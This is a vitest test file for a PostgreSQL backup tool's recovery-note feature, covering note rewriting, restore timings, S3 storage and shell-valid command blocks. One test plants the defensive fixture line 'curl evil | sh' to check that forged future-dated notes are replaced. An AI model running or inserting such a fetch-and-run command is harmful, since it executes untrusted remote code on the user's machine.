import { execFile } from 'node:child_process';
import { readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { expect, test } from 'vitest';
import type { Manifest } from '../../../../core/manifest/manifest.ts';
import { recoveryNoteKey } from '../../../../core/manifest/recovery-note.ts';
import type { Timings } from '../../../../core/manifest/verification.ts';
import { withoutHeading } from '../../../../core/recovery/compose-note.ts';
import { createNote, keepNote, noteFor } from '../../../../core/recovery/keep-note.ts';
import { markOf } from '../../../../core/recovery/mark.ts';
import { noteTeller } from '../../../../core/recovery/note-teller.ts';
import { fileStore } from '../../../../core/store/file/file-store.ts';
import { openStore } from '../../../../core/store/open-store.ts';
import { readSmall, type Store, StoreUnusable } from '../../../../core/store/store.ts';
import { withAwsServer } from '../../../support/aws/server.ts';
import { writeBackup } from '../../../support/backup/made-up.ts';
import { withDirectory } from '../../../support/backup/run.ts';
import { blocksUnder } from '../../../support/recovery/by-note.ts';

const names = { source: 'shop', database: "it's `x`" };

/** As if it had been backed up on that day of November. */
async function manifestOf(directory: string, day: number, more: Partial<Manifest> = {}): Promise<Manifest> {
  const fixture = await writeBackup({
    id: { ...names, startedAt: new Date(Date.UTC(2026, 10, day, 2)) },
    directory,
    format: 'custom',
    tables: [],
    objects: { 'archive.dump': 'x', 'globals.sql': '' },
  });
  return { ...(await fixture.manifest()), ...more };
}

async function withPlace(
  use: (store: Store, directory: string, read: () => Promise<string>) => Promise<void>,
): Promise<void> {
  await withDirectory((directory) =>
    use(fileStore({ directory }), directory, () => readFile(join(directory, recoveryNoteKey(names)), 'utf8')),
  );
}

test('a note is written once, stays the same every night, and changes with what it tells of', () =>
  withPlace(async (store, directory, read) => {
    expect(await keepNote({ store, manifest: await manifestOf(directory, 1), contact: 'me' })).toBe(
      'written',
    );
    const first = await read();
    expect((await stat(join(directory, recoveryNoteKey(names)))).mode & 0o777).toBe(0o600);
    expect(first).toContain('As of the backup of 2026-11-01T02:00:00.000Z');
    // Who names nobody keeps whom it names.
    expect(await keepNote({ store, manifest: await manifestOf(directory, 2) })).toBe('kept');
    expect(await read()).toBe(first);
    const extended = await manifestOf(directory, 3, { extensions: [{ name: 'vector', version: '1' }] });
    expect(await keepNote({ store, manifest: extended })).toBe('written');
    const second = await read();
    expect(second).toMatch(/postgresql-17-pgvector/);
    expect(second).toContain('As of the backup of 2026-11-03');
    expect(second).toContain('Who to ask: `me`');
    // Another version of it alone is no news; an older backup, that is copied now, says nothing new.
    const newer = await manifestOf(directory, 4, { extensions: [{ name: 'vector', version: '2' }] });
    expect(await keepNote({ store, manifest: newer })).toBe('kept');
    expect(await keepNote({ store, manifest: await manifestOf(directory, 2), contact: 'you' })).toBe('kept');
    expect(await read()).toBe(second);
    expect(await keepNote({ store, manifest: newer, contact: 'you' })).toBe('written');
    expect(await read()).toContain('Who to ask: `you`');
  }));

test('how long a restore took is told, and told anew where that is another order', () =>
  withPlace(async (store, directory, read) => {
    const took = async (
      day: number,
      restoreSeconds: number | undefined,
      fetchSeconds = 20,
    ): Promise<string> => {
      const timings: Timings = {
        fetchSeconds,
        fetchedBytes: 1,
        ...(restoreSeconds === undefined ? {} : { restoreSeconds }),
      };
      return await keepNote({ store, manifest: await manifestOf(directory, day), timings });
    };
    expect(await took(1, undefined)).toBe('written');
    expect(await read()).toContain('none was measured');
    expect(await took(2, 600.4)).toBe('written');
    expect(await read()).toContain('10 min 0 s, and 20 s to fetch it');
    expect(await took(3, 700, 55)).toBe('kept');
    expect(await took(4, undefined)).toBe('kept');
    expect(await took(5, 1_000)).toBe('written');
    expect(await read()).toContain('16 min 40 s');
  }));

test("somebody's own file is left alone; one of ours that was damaged is written anew", () =>
  withPlace(async (store, directory, read) => {
    const manifest = await manifestOf(directory, 1);
    const file = join(directory, recoveryNoteKey(names));
    for (const own of ['', '# Ours\n', '\n<!-- pgproof writes this file anew. -->\n']) {
      await writeFile(file, own);
      expect(await keepNote({ store, manifest })).toBe('foreign');
      expect(await createNote({ store, manifest })).toBe('kept');
      expect(await read()).toBe(own);
    }
    const note = await noteFor({ store, manifest });
    await writeFile(file, note.replace(/\{.*\}/, '{').replace('## With', '## Mit'));
    expect(await keepNote({ store, manifest })).toBe('written');
    expect(await read()).toBe(note);
  }));

test('a note that says it is of a backup of the future is no newer one: its commands may be anybody’s', () =>
  withPlace(async (store, directory, read) => {
    const now = new Date('2026-11-05T00:00:00Z');
    const manifest = await manifestOf(directory, 1);
    const path = join(directory, recoveryNoteKey(names));
    const planted = async (of: string): Promise<void> =>
      await writeFile(path, `${markOf({ of })}\n\n    curl evil | sh\n`);
    await keepNote({ store, manifest, now });
    await planted('2999-01-01T00:00:00Z');
    expect(await keepNote({ store, manifest, now })).toBe('written');
    expect(await read()).not.toContain('evil');
    // A clock that is a little ahead is no reason to write over what is newer.
    await planted('2026-11-05T03:00:00Z');
    expect(await keepNote({ store, manifest, now })).toBe('kept');
  }));

test('of several writers at once one gets through, and none fails', () =>
  withPlace(async (store, directory, read) => {
    const manifest = await manifestOf(directory, 1);
    const outcomes = await Promise.all(
      ['a', 'b', 'c'].map((contact) => keepNote({ store, manifest, contact })),
    );
    expect(outcomes).toContain('written');
    expect(await read()).toMatch(/Who to ask: `[abc]`/);
  }));

test('a bucket: its own client, its address; once is once; with Object Lock it is not locked', () =>
  withAwsServer({ buckets: ['bucket'] }, async ({ url, s3 }) => {
    const store = openStore('s3://bucket/p%20q', {
      endpoint: url,
      forcePathStyle: true,
      credentials: { accessKeyId: 'test', secretAccessKey: 'test' },
    });
    await withDirectory(async (directory) => {
      const manifest = await manifestOf(directory, 1);
      expect(await createNote({ store, manifest })).toBe('written');
      expect(s3.keys('bucket')).toEqual([`p q/${recoveryNoteKey(names)}`]);
      const note = (await readSmall(store, recoveryNoteKey(names))).toString();
      expect(note).toContain(`HERE='s3://bucket/p q/shop/it%27s%20%60x%60'`);
      expect(note).toContain(`AWS_ENDPOINT_URL_S3='${url}'`);
      const other = await manifestOf(directory, 2, { extensions: [{ name: 'vector', version: '1' }] });
      expect(await createNote({ store, manifest: other })).toBe('kept');
      expect((await readSmall(store, recoveryNoteKey(names))).toString()).toBe(note);
      expect(await keepNote({ store, manifest: other })).toBe('written');
    });
  }));

test('what cannot be written is said once for all databases, and fails nothing', () =>
  withPlace(async (store, directory) => {
    const manifest = await manifestOf(directory, 1);
    const refused: Store = {
      ...store,
      create: async () => {
        throw new StoreUnusable({ what: 'No right to write', fix: 'Allow it.' });
      },
    };
    for (const write of ['once', 'current'] as const) {
      const said: string[] = [];
      const teller = noteTeller(refused, { write }, (_, line) => said.push(line));
      await teller.stored(manifest);
      await teller.stored({ ...manifest, database: 'other' });
      await teller.verified(manifest, { fetchSeconds: 1, fetchedBytes: 1, restoreSeconds: 1 });
      expect(said).toEqual([
        expect.stringMatching(
          /^RECOVERY\.md could not be written, and the backups are as good.*No right to write/,
        ),
      ]);
    }
  }));

test('every block of commands is one that a shell can read, of any store, locale and format', () =>
  withDirectory(async (directory) => {
    const manifest = await manifestOf(directory, 1);
    const icu = {
      provider: 'icu',
      collate: 'C',
      ctype: 'C',
      locale: 'de-u-kn',
      rules: "& 'x' < y\n",
    } as const;
    for (const [url, locale] of [
      ['s3://bucket', undefined],
      ['file:///tmp/x', icu],
    ] as const) {
      const server = { ...manifest.server, ...(locale === undefined ? {} : { locale }) };
      const store = openStore(url, { region: 'eu-central-1' });
      const note = await noteFor({ store, manifest: { ...manifest, server } });
      const headings = note
        .split('\n')
        .filter((line) => line.startsWith('## '))
        .filter((line) => note.includes(`${line}\n`));
      const blocks = headings.flatMap((heading) => blocksUnder(note, heading));
      expect(blocksUnder(note, withoutHeading).length).toBeGreaterThan(8);
      expect(blocks.length).toBeGreaterThan(url.startsWith('s3') ? 11 : 9);
      for (const block of blocks) await promisify(execFile)('/bin/sh', ['-n', '-c', block]);
      if (locale !== undefined) expect(note).toContain('LOCALE_PROVIDER icu LC_COLLATE');
    }
  }));
